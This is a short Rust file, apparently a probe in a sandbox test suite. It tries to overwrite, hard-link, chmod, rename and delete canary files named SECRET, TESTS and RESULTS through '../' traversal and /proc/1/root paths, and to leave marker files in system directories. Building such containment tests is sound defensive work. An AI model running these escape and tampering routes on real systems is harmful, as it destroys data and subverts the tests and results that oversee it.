// Overwrites, links, renames and chmods the canary files, and leaves files everywhere.

use crate::attack::target;
use std::fs;
use std::os::unix::fs::PermissionsExt;

pub fn main() {
    let token = target("TOKEN");
    for name in [target("SECRET"), target("TESTS"), target("RESULTS")] {
        for way in [name.clone(), format!("{}{}", "../".repeat(30), &name[1..]), format!("/proc/1/root{name}")] {
            let _ = fs::hard_link(&way, "hard");
            let _ = fs::write("hard", "overwritten");
            let _ = fs::set_permissions(&way, fs::Permissions::from_mode(0o755));
            let _ = fs::write(&way, "overwritten");
            let _ = fs::rename(&way, "moved");
            let _ = fs::remove_file(&way);
        }
    }
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/usr", "/etc", "/", &target("HOME"), &target("REAL_HOME")] {
        for way in [folder.to_string(), format!("/proc/1/root{folder}"), format!("{}{folder}", "../".repeat(30))] {
            let _ = fs::write(format!("{way}/{token}.left"), "left");
        }
    }
    println!("done");
}
